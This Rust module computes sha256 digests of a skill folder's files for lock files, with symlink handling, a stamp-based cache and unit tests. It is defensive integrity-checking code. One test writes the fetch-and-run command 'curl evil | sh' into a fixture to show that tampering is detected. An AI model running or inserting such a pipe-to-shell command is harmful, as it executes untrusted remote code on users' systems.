//! Content digests of a skill folder, for lock files: every regular file
//! under the folder, by `/`-separated path relative to it, with the sha256
//! of its bytes (`sha256:<hex>`), sorted by path.
//!
//! A symlinked file is read through its link (its content is what an agent
//! would load). A symlinked directory within the folder is entered, each
//! real directory once (the first path to it in name order, the same on
//! every machine), so a link cycle cannot loop; a link to a directory
//! elsewhere, or to nothing (dangling, or a FIFO), is recorded by where it
//! points, so retargeting or removing it changes the digests, while the
//! names and digests of files outside the folder (a link to a home
//! directory) never go into a lock file a project commits.

use std::collections::{BTreeMap, HashMap};
use std::path::{Path, PathBuf};

use sha2::{Digest, Sha256};

/// Most files digested in one folder: a skill folder is a handful of files; a
/// mistaken path (a home directory) fails instead of reading the disk.
pub const MAX_DIGEST_FILES: usize = 10_000;

/// A folder whose files cannot be digested.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("cannot digest the files of skill folder `{}`: {message}", agents_core::text::shown_path(.folder))]
pub struct FolderDigestError {
    /// The folder.
    pub folder: PathBuf,
    /// What failed, naming the file.
    pub message: String,
}

impl FolderDigestError {
    /// A stable machine-readable kind.
    pub fn kind(&self) -> &'static str {
        "agent_skill_files"
    }
}

/// The digest of every file in `folder` (see the module documentation).
pub fn folder_digests(folder: &Path) -> Result<BTreeMap<String, String>, FolderDigestError> {
    digests_with(folder, None, std::time::UNIX_EPOCH)
}

/// [`folder_digests`] of a folder digested again and again (the gateway
/// checks a served folder against its lock at every request): a file whose
/// stamp (device, inode, size, modification and change times) is the one
/// it was hashed at is not read again, unless it changed in the last
/// [`SETTLED`], within a file system's time granularity of that hash.
pub fn folder_digests_cached(
    folder: &Path,
    cache: &DigestCache,
) -> Result<BTreeMap<String, String>, FolderDigestError> {
    digests_with(folder, Some(cache), std::time::SystemTime::now())
}

/// A file changed this recently is hashed again every time: a write within
/// the file system's timestamp granularity of the last hash could leave its
/// stamp as it was.
pub const SETTLED: std::time::Duration = std::time::Duration::from_secs(3);

/// What [`folder_digests_cached`] keeps of one folder: each file's digest
/// by relative path, with the stamp it was computed at. It holds the files
/// of the last digest only.
#[derive(Debug, Default)]
pub struct DigestCache {
    files: std::sync::Mutex<HashMap<String, (FileStamp, String)>>,
    /// Files read and hashed in all, for the tests.
    hashed: std::sync::atomic::AtomicUsize,
}

impl DigestCache {
    /// Files read and hashed through this cache so far.
    pub fn hashed(&self) -> usize {
        self.hashed.load(std::sync::atomic::Ordering::Relaxed)
    }
}

/// What tells a file's content has not changed without reading it: the
/// device, inode, size, and modification and change times (a change of the
/// bytes, of the times set back by `touch -d`, or of the file swapped for
/// another, moves one of them). The gateway's `skills/list` digests use it
/// too.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct FileStamp {
    dev: u64,
    ino: u64,
    len: u64,
    mtime: (i64, i64),
    ctime: (i64, i64),
}

impl FileStamp {
    /// The stamp of the file `meta` describes.
    pub fn of(meta: &std::fs::Metadata) -> Self {
        use std::os::unix::fs::MetadataExt;
        Self {
            dev: meta.dev(),
            ino: meta.ino(),
            len: meta.len(),
            mtime: (meta.mtime(), meta.mtime_nsec()),
            ctime: (meta.ctime(), meta.ctime_nsec()),
        }
    }

    /// Neither time is within [`SETTLED`] of `now`: a digest computed now
    /// may be kept for the stamp (a time the clock cannot place counts as
    /// recent).
    pub fn settled_at(&self, now: std::time::SystemTime) -> bool {
        let at = |(secs, nanos): (i64, i64)| {
            let since =
                std::time::Duration::new(u64::try_from(secs).ok()?, u32::try_from(nanos).ok()?);
            std::time::UNIX_EPOCH
                .checked_add(since)?
                .checked_add(SETTLED)
        };
        [self.mtime, self.ctime]
            .into_iter()
            .all(|time| at(time).is_some_and(|settled| settled <= now))
    }
}

/// The files a cached digest reads: the last digest's, and this one's.
struct Cached<'a> {
    cache: &'a DigestCache,
    before: HashMap<String, (FileStamp, String)>,
    kept: HashMap<String, (FileStamp, String)>,
    now: std::time::SystemTime,
}

impl Cached<'_> {
    fn digest(&mut self, path: &Path, relative: &str) -> std::io::Result<String> {
        let mut file = std::fs::File::open(path)?;
        let stamp = FileStamp::of(&file.metadata()?);
        let digest = match self.before.remove(relative) {
            Some((was, digest)) if was == stamp => digest,
            _ => {
                self.cache
                    .hashed
                    .fetch_add(1, std::sync::atomic::Ordering::Relaxed);
                digest_of_file(&mut file)?
            }
        };
        if stamp.settled_at(self.now) {
            self.kept
                .insert(relative.to_owned(), (stamp, digest.clone()));
        }
        Ok(digest)
    }
}

/// The digests, through `cache` when given, with the clock at `now`.
fn digests_with(
    folder: &Path,
    cache: Option<&DigestCache>,
    now: std::time::SystemTime,
) -> Result<BTreeMap<String, String>, FolderDigestError> {
    let mut cached = cache.map(|cache| Cached {
        cache,
        // A copy, so the lock is not held while files are read.
        before: cache
            .files
            .lock()
            .unwrap_or_else(std::sync::PoisonError::into_inner)
            .clone(),
        kept: HashMap::new(),
        now,
    });
    let fail = |message: String| FolderDigestError {
        folder: folder.to_path_buf(),
        message,
    };
    let mut digests = BTreeMap::new();
    let mut pending: Vec<(PathBuf, String)> = vec![(folder.to_path_buf(), String::new())];
    // Links to directories are entered only within the folder itself.
    let root = std::fs::canonicalize(folder).unwrap_or_else(|_| folder.to_path_buf());
    // Real directories entered, so a cycle of links ends.
    let mut entered = std::collections::HashSet::new();
    let link_digest = |path: &Path, relative: &str| -> Result<String, FolderDigestError> {
        let target = std::fs::read_link(path)
            .map_err(|err| fail(format!("cannot read the link `{relative}`: {err}")))?;
        let digest = Sha256::digest(target.as_os_str().as_encoded_bytes());
        Ok(format!("symlink:{}", agents_core::text::hex(&digest)))
    };
    while let Some((dir, prefix)) = pending.pop() {
        if let Ok(real) = std::fs::canonicalize(&dir)
            && !entered.insert(real)
        {
            continue;
        }
        let listed = |err: std::io::Error| {
            fail(format!(
                "cannot list `{}`: {err}",
                agents_core::text::shown_path(&dir)
            ))
        };
        // In name order, so which of two paths to one directory is entered
        // (the first) is the same on every machine, whatever order the
        // file system lists them in.
        let mut entries = std::fs::read_dir(&dir)
            .map_err(listed)?
            .collect::<Result<Vec<_>, _>>()
            .map_err(listed)?;
        entries.sort_by_key(std::fs::DirEntry::file_name);
        let mut below = Vec::new();
        for entry in entries {
            let name = entry.file_name().to_string_lossy().into_owned();
            let relative = if prefix.is_empty() {
                name
            } else {
                format!("{prefix}/{name}")
            };
            let path = entry.path();
            let kind = entry
                .file_type()
                .map_err(|err| fail(format!("cannot stat `{relative}`: {err}")))?;
            let led_to = if kind.is_symlink() {
                std::fs::metadata(&path).ok()
            } else {
                None
            };
            if kind.is_dir() {
                below.push((path, relative));
                continue;
            }
            if digests.len() >= MAX_DIGEST_FILES {
                return Err(fail(format!("more than {MAX_DIGEST_FILES} files")));
            }
            if led_to.as_ref().is_some_and(std::fs::Metadata::is_dir) {
                // A link to a directory of the folder is entered; one to
                // anywhere else counts by where it points: the names and
                // digests of files outside (a home directory) do not go
                // into a lock file a project commits.
                if std::fs::canonicalize(&path).is_ok_and(|real| real.starts_with(&root)) {
                    below.push((path, relative));
                } else {
                    let digest = link_digest(&path, &relative)?;
                    digests.insert(relative, digest);
                }
                continue;
            }
            if kind.is_symlink() && !led_to.as_ref().is_some_and(std::fs::Metadata::is_file) {
                // Dangling, or to a FIFO or device: where it points.
                let digest = link_digest(&path, &relative)?;
                digests.insert(relative, digest);
                continue;
            }
            if !kind.is_file() && !kind.is_symlink() {
                continue;
            }
            let digest = match &mut cached {
                Some(cached) => cached.digest(&path, &relative),
                None => file_digest(&path),
            }
            .map_err(|err| fail(format!("cannot read `{relative}`: {err}")))?;
            digests.insert(relative, digest);
        }
        // Popped in name order.
        pending.extend(below.into_iter().rev());
    }
    if let Some(cached) = cached {
        *cached
            .cache
            .files
            .lock()
            .unwrap_or_else(std::sync::PoisonError::into_inner) = cached.kept;
    }
    Ok(digests)
}

fn file_digest(path: &Path) -> std::io::Result<String> {
    digest_of_file(&mut std::fs::File::open(path)?)
}

fn digest_of_file(file: &mut std::fs::File) -> std::io::Result<String> {
    let mut hasher = Sha256::new();
    std::io::copy(file, &mut hasher)?;
    Ok(format!(
        "sha256:{}",
        agents_core::text::hex(&hasher.finalize())
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_file_is_digested_by_its_relative_path() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("SKILL.md"), "abc").unwrap();
        std::fs::create_dir(dir.path().join("scripts")).unwrap();
        std::fs::write(dir.path().join("scripts/run.sh"), "").unwrap();
        let digests = folder_digests(dir.path()).unwrap();
        let keys: Vec<&str> = digests.keys().map(String::as_str).collect();
        assert_eq!(keys, ["SKILL.md", "scripts/run.sh"]);
        assert_eq!(
            digests["SKILL.md"],
            "sha256:ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
        );
        assert_eq!(
            digests["scripts/run.sh"],
            "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
        );
        std::fs::write(dir.path().join("SKILL.md"), "abd").unwrap();
        assert_ne!(
            folder_digests(dir.path()).unwrap()["SKILL.md"],
            digests["SKILL.md"]
        );
    }

    #[test]
    fn a_cached_digest_reads_only_the_files_that_changed() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("SKILL.md"), "abc").unwrap();
        std::fs::write(dir.path().join("b.txt"), "bravo").unwrap();
        let cache = DigestCache::default();
        let now = std::time::SystemTime::now;
        // Just written: not settled, so hashed every time.
        let first = digests_with(dir.path(), Some(&cache), now()).unwrap();
        assert_eq!(first, folder_digests(dir.path()).unwrap());
        digests_with(dir.path(), Some(&cache), now()).unwrap();
        assert_eq!(cache.hashed(), 4);
        // An hour on, every file has settled: read once more, then not.
        let later = now() + std::time::Duration::from_secs(3600);
        digests_with(dir.path(), Some(&cache), later).unwrap();
        assert_eq!(
            digests_with(dir.path(), Some(&cache), later).unwrap(),
            first
        );
        assert_eq!(cache.hashed(), 6, "an unchanged file was read again");
        // A change of one file (the same size) is read, and only it.
        std::fs::write(dir.path().join("SKILL.md"), "abd").unwrap();
        let changed = digests_with(dir.path(), Some(&cache), later).unwrap();
        assert_eq!(cache.hashed(), 7);
        assert_eq!(changed, folder_digests(dir.path()).unwrap());
        assert_ne!(changed["SKILL.md"], first["SKILL.md"]);
        assert_eq!(changed["b.txt"], first["b.txt"]);
    }

    #[test]
    fn links_are_followed_as_an_agent_follows_them() {
        let dir = tempfile::tempdir().unwrap();
        let skill = dir.path().join("skill");
        let elsewhere = dir.path().join("elsewhere");
        std::fs::create_dir_all(&skill).unwrap();
        std::fs::create_dir_all(&elsewhere).unwrap();
        std::fs::write(skill.join("SKILL.md"), "run lib/x.sh").unwrap();
        std::fs::create_dir_all(skill.join("v2")).unwrap();
        std::fs::write(skill.join("v2/run.sh"), "echo 1").unwrap();
        std::fs::write(elsewhere.join("secret"), "key").unwrap();
        // Within the folder: entered once, under the first name.
        std::os::unix::fs::symlink(skill.join("v2"), skill.join("current")).unwrap();
        // A cycle: ends.
        std::os::unix::fs::symlink(&skill, skill.join("v2/back")).unwrap();
        // Elsewhere: recorded by its target, not listed.
        std::os::unix::fs::symlink(&elsewhere, skill.join("lib")).unwrap();
        let before = folder_digests(&skill).unwrap();
        let keys: Vec<&str> = before.keys().map(String::as_str).collect();
        assert_eq!(keys, ["SKILL.md", "current/run.sh", "lib"], "{before:?}");
        assert!(before["lib"].starts_with("symlink:"));
        // A file changed behind the link within changes the digests.
        std::fs::write(skill.join("v2/run.sh"), "curl evil | sh").unwrap();
        let changed = folder_digests(&skill).unwrap();
        assert_ne!(changed["current/run.sh"], before["current/run.sh"]);
        // Retargeting the link elsewhere does too.
        std::fs::remove_file(skill.join("lib")).unwrap();
        std::os::unix::fs::symlink(dir.path(), skill.join("lib")).unwrap();
        assert_ne!(folder_digests(&skill).unwrap()["lib"], before["lib"]);
        // A dangling link is recorded by where it points.
        std::os::unix::fs::symlink("/nowhere/a", skill.join("gone")).unwrap();
        let one = folder_digests(&skill).unwrap();
        assert!(one["gone"].starts_with("symlink:"), "{one:?}");
        std::fs::remove_file(skill.join("gone")).unwrap();
        std::os::unix::fs::symlink("/nowhere/b", skill.join("gone")).unwrap();
        assert_ne!(folder_digests(&skill).unwrap()["gone"], one["gone"]);
    }
}
